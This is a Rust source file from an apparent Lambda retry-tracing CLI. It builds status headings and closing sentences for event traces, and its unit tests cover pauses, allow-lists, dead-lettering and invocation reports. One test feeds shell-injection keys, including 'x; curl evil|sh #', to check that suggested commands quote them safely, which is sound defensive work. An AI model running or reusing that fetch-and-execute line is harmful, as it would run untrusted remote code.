//! The state of an event: a heading, and the last sentence of `comeback trace`. They claim no more than the logs show.

use comeback_engine::{HOLD, Timestamp, What};

use crate::command::CommandName;
use crate::deployment::Unlisted;
use crate::durations;
use crate::pauses::in_force::InForce;
use crate::text;
use crate::text::{Text, Tone, quoted};
use crate::trace::Trace;
use crate::trace::logs::InvocationReport;
use crate::trace::story::{StepKind, StoryEnd, StoryStep};

impl Trace {
    /// Returns the event's state in a few words, such as `Waiting: retry 5 in 1m 29s`.
    pub fn heading(&self) -> String {
        let retry = self.story.steps.last().map(|step| step.event.retry).unwrap_or_default();
        match &self.story.end {
            StoryEnd::DeadLettered => "Dead-lettered".into(),
            StoryEnd::Invoked { .. } if self.is_over() => format!("Probably succeeded: retry {retry}"),
            StoryEnd::Invoked { .. } => format!("Retry {retry} was invoked"),
            _ if self.not_allowed.is_some() => "Not on the allow-list".into(),
            _ if self.is_held() => format!("Held by a pause: retry {retry}"),
            StoryEnd::Waiting { due } if *due > self.now => {
                format!("Waiting: retry {retry} in {}", durations::until(*due, self.now))
            }
            StoryEnd::Waiting { .. } => format!("Due: retry {retry}"),
            StoryEnd::Held | StoryEnd::Kept => format!("Waiting: retry {retry}"),
        }
    }

    /// Returns true if the event was dead-lettered or has probably succeeded.
    pub(super) fn is_over(&self) -> bool {
        self.story.end == StoryEnd::DeadLettered
            || self.last_report().is_some_and(InvocationReport::is_success)
    }

    /// Returns true if a pause holds the event's next retry.
    pub fn is_held(&self) -> bool {
        self.pause.is_some_and(|pause| pause.holds(self.story.end.due()))
    }

    /// Returns the last sentence of the trace: how the event ended, or what it is waiting for.
    pub(super) fn ending(&self) -> Text {
        if let Some(text) = self.by_allow_list().or_else(|| self.by_pauses()) {
            return text;
        }
        match &self.story.end {
            StoryEnd::Waiting { due } if *due > self.now => {
                text!["Waiting. The next retry is due in ", durations::until(*due, self.now), "."]
            }
            StoryEnd::Waiting { due } => self.overdue("The", *due),
            StoryEnd::Held => text!["Its function is paused. ", self.who_paused()],
            StoryEnd::Kept => "It is kept; the handler will try again.".into(),
            StoryEnd::DeadLettered => self.dead_lettered(),
            StoryEnd::Invoked { at, .. } => self.after_retry(*at),
        }
    }

    /// The last sentence for an event whose retry is overdue. `the` is the start of the sentence: `The`, or a clause
    /// that ends in `the`.
    fn overdue(&self, the: &str, due: Timestamp) -> Text {
        let late = format!("{the} next retry has been due for {}. ", durations::since(due, self.now));
        let doctor = quoted(self.deployment.command(CommandName::Doctor, [""; 0]));
        text![late, doctor, " says whether retries run."]
    }

    fn who_paused(&self) -> Text {
        let list = quoted(self.deployment.command(CommandName::Pause, ["--list"]));
        text![list, " shows who paused it, and why."]
    }

    /// Returns the last sentence of the trace if a pause, or the end of a pause, determines when the event is
    /// retried.
    fn by_pauses(&self) -> Option<Text> {
        match self.pause? {
            InForce::Paused { until } if self.is_held() => {
                let until = until.map(|until| text![" until ", until]).unwrap_or_default();
                Some(text!["Its function is paused", until, ". ", self.who_paused()])
            }
            InForce::NotPaused { back_by } if self.story.end == StoryEnd::Held => {
                let back_by = back_by.unwrap_or_else(|| self.now.saturating_add(HOLD));
                let resumed = "Its function was resumed";
                if back_by >= self.now {
                    let within = durations::until(back_by, self.now);
                    return Some(format!("{resumed}. The next retry comes within {within}.").into());
                }
                Some(self.overdue(&format!("{resumed}, and the"), back_by))
            }
            InForce::Paused { .. } | InForce::NotPaused { .. } => None,
        }
    }

    /// Returns the last sentence of the trace for a waiting event whose function is not on the allow-list.
    fn by_allow_list(&self) -> Option<Text> {
        let dead_lettered =
            "Its function is not on the allow-list, so the event will be dead-lettered (target_not_allowed)";
        let fate = match (self.not_allowed?, &self.story.end) {
            (Unlisted::DeadLettered, StoryEnd::Waiting { due }) if *due > self.now => {
                format!("{dead_lettered} within {}.", durations::until(*due, self.now))
            }
            (Unlisted::DeadLettered, _) => format!("{dead_lettered} when the handler next receives it."),
            (Unlisted::Kept, _) => "It is kept but not retried, because the allow-list is empty.".into(),
        };
        let attach = self.deployment.attach_commands([&*self.story.target]);
        Some(text![format!("{fate} To retry it: "), attach, "."])
    }

    fn dead_lettered(&self) -> Text {
        let step = self.story.steps.iter().rfind(|step| step.is_dead_letter());
        let at = step.map(|step| text![" at ", step.at]).unwrap_or_default();
        // The key may begin with `-`, because the sender of the event may have chosen it.
        let key = &*self.story.key;
        let words = if key.starts_with('-') { vec!["--", key] } else { vec![key] };
        let show = quoted(self.deployment.command(CommandName::DeadShow, words));
        text!["Dead-lettered", at, ". To see whether it is still there: ", show]
    }

    /// Returns the last sentence of a trace, for an event that has not failed again since its last retry. Only
    /// Lambda's report on the invocation shows a success.
    fn after_retry(&self, at: Timestamp) -> Text {
        let retry = |step: &StoryStep| match &step.happened {
            StepKind::Logged(What::Reinvoke { .. }) => Some(format!("Retry {}", step.event.retry)),
            _ => None,
        };
        let retry = self.story.steps.iter().rev().find_map(retry);
        let retry = retry.unwrap_or_else(|| "The last retry".into());
        let unknown = |why: &str| {
            let ago = durations::since(at, self.now);
            Text::toned(
                Tone::Warning,
                format!("{retry} was invoked {ago} ago, and no failure followed. {why}"),
            )
        };
        match self.last_report() {
            Some(InvocationReport::Seen { at: end, status: Some(status) }) if status != "success" => {
                let status =
                    format!(" with status {status}, and its failure has not reached the handler yet.");
                Text::toned(Tone::Bad, text![format!("{retry} ended at "), *end, status])
            }
            Some(InvocationReport::Seen { at: end, .. }) => {
                let no_failure =
                    format!(", and no failure followed in {}.", durations::since(*end, self.now));
                let succeeded = format!("{retry} probably succeeded: it ended at ");
                Text::toned(Tone::Good, text![succeeded, *end, no_failure])
            }
            Some(InvocationReport::NotSeen) => unknown("The function's log has no REPORT line of it yet."),
            Some(InvocationReport::Unread { why }) => {
                unknown(&format!("The function's log is unreadable: {why}."))
            }
            None => unknown("The invocation's request id is unknown, so its log was not searched."),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::deployment::Deployment;
    use crate::trace::logs::LoggedInvocation;
    use crate::trace::tests::{at, dead_letters, due, holds, invoked, trace};

    /// Returns the last sentence of the output for a trace whose logs were read at `second`.
    fn ending(trace: Trace, second: u64) -> String {
        let deployment = Deployment { stack: Some("shop".into()), ..Deployment::sample() };
        Trace { now: at(second), deployment, ..trace }.ending().to_string()
    }

    #[test]
    fn a_key_cannot_command_the_shell() {
        for (key, shown) in
            [("x; curl evil|sh #", "x; curl evil|sh #"), ("a\0`b`$c", "a\\u{0}`b`$c"), ("-k'", "-k'")]
        {
            let mut trace = trace(&[], StoryEnd::DeadLettered, Vec::new());
            trace.story.key = key.into();
            let text = ending(trace, 64);
            let (_, command) = text.split_once("To see whether it is still there: `").unwrap();
            let words = shlex::split(command.strip_suffix('`').unwrap()).unwrap();
            let words: Vec<_> = words.iter().map(String::as_str).collect();
            if key.starts_with('-') {
                assert_eq!(words, ["comeback", "dead", "show", "--stack", "shop", "--", shown]);
            } else {
                assert_eq!(words, ["comeback", "dead", "show", shown, "--stack", "shop"]);
            }
        }
    }

    #[test]
    fn heading_and_last_sentence_round_alike() {
        let now = Timestamp::from_millis(at(8).as_millis() + 600);
        let trace = Trace { now, ..trace(&[(0, holds())], due(70), vec![]) };
        assert_eq!(trace.heading(), "Waiting: retry 1 in 1m 2s");
        assert_eq!(trace.ending().to_string(), "Waiting. The next retry is due in 1m 2s.");
    }

    #[test]
    fn pauses_in_force_override_the_log() {
        let last = |end, pause| {
            let trace = Trace { pause: Some(pause), ..trace(&[(0, holds())], end, vec![]) };
            ending(trace, 10)
        };
        let (held, kept) = (StoryEnd::Held, StoryEnd::Kept);
        let paused = |until: Option<u64>| InForce::Paused { until: until.map(at) };
        let not_paused = |back_by: Option<u64>| InForce::NotPaused { back_by: back_by.map(at) };
        let listed = "`comeback pause --list --stack shop` shows who paused it, and why.";
        let until = format!("Its function is paused until 2026-09-14T16:33:20.000Z. {listed}");
        assert_eq!(last(due(70), paused(Some(3_600))), until);
        assert_eq!(last(kept, paused(None)), format!("Its function is paused. {listed}"));
        let waits = "Waiting. The next retry is due in 1m.";
        assert_eq!(last(due(70), paused(Some(60))), waits);
        assert_eq!(last(due(70), not_paused(Some(60))), waits);
        let resumed = "Its function was resumed. The next retry comes within";
        assert_eq!(last(held.clone(), not_paused(Some(70))), format!("{resumed} 1m."));
        assert_eq!(last(held.clone(), not_paused(None)), format!("{resumed} 22m 24s."));
        let late = "Its function was resumed, and the next retry has been due for 5s.";
        assert!(last(held, not_paused(Some(5))).starts_with(late));
    }

    #[test]
    fn unlisted_event_is_not_promised_a_retry() {
        let said = |unlisted, end| {
            let mut trace = trace(&[(0, holds())], end, vec![]);
            trace.story.target = "arn:aws:lambda:eu-west-1:123456789012:function:orders:$LATEST".into();
            (trace.not_allowed, trace.pause) = (unlisted, Some(InForce::Paused { until: None }));
            ending(trace, 10)
        };
        let held = StoryEnd::Held;
        let not_allowed =
            "Its function is not on the allow-list, so the event will be dead-lettered (target_not_allowed)";
        let attach = "To retry it: `comeback attach orders --stack shop` (if the function moved to another \
                      stack, see docs/attach.md).";
        let received = format!("{not_allowed} when the handler next receives it. {attach}");
        let kept = format!("It is kept but not retried, because the allow-list is empty. {attach}");
        for (unlisted, end, expected) in [
            (Unlisted::DeadLettered, due(70), format!("{not_allowed} within 1m. {attach}")),
            (Unlisted::DeadLettered, due(0), received.clone()),
            (Unlisted::DeadLettered, held.clone(), received),
            (Unlisted::Kept, due(70), kept),
        ] {
            assert_eq!(said(Some(unlisted), end), expected);
        }
        assert!(said(None, held).starts_with("Its function is paused."));
    }

    #[test]
    fn last_sentence_claims_only_known_facts() {
        for (line, end, expected) in [
            (holds(), due(70), "Waiting. The next retry is due in 1m."),
            (
                holds(),
                due(0),
                "The next retry has been due for 10s. `comeback doctor --stack shop` says whether retries run.",
            ),
            (
                holds(),
                StoryEnd::Held,
                "Its function is paused. `comeback pause --list --stack shop` shows who paused it, and why.",
            ),
            (holds(), StoryEnd::Kept, "It is kept; the handler will try again."),
            (
                dead_letters(),
                StoryEnd::DeadLettered,
                "Dead-lettered at 2026-09-14T15:33:20.000Z. To see whether it is still there: `comeback dead \
                 show k-1 --stack shop`",
            ),
        ] {
            assert_eq!(ending(trace(&[(0, line)], end, vec![]), 10), expected);
        }
        let seen = |status: Option<&str>| InvocationReport::Seen {
            at: at(5),
            status: status.map(ToOwned::to_owned),
        };
        let succeeded = "Retry 1 probably succeeded: it ended at 2026-09-14T15:33:25.000Z, and no failure followed in 5s.";
        for (report, expected) in [
            (seen(None), succeeded),
            (seen(Some("success")), succeeded),
            (
                seen(Some("timeout")),
                "Retry 1 ended at 2026-09-14T15:33:25.000Z with status timeout, and its failure has not \
                 reached the handler yet.",
            ),
            (
                InvocationReport::NotSeen,
                "Retry 1 was invoked 10s ago, and no failure followed. The function's log has no REPORT line \
                 of it yet.",
            ),
            (
                InvocationReport::Unread { why: "denied".into() },
                "Retry 1 was invoked 10s ago, and no failure followed. The function's log is unreadable: \
                 denied.",
            ),
        ] {
            let invocation = LoggedInvocation { request_id: "r-1".into(), report, lines: Vec::new() };
            let end = StoryEnd::Invoked { request_id: Some("r-1".into()), at: at(0) };
            assert_eq!(ending(trace(&[(0, invoked())], end, vec![invocation]), 10), expected);
        }
        let end = StoryEnd::Invoked { request_id: None, at: at(0) };
        assert_eq!(
            ending(trace(&[(0, invoked())], end, vec![]), 10),
            "Retry 1 was invoked 10s ago, and no failure followed. The invocation's request id is unknown, so \
             its log was not searched."
        );
    }
}
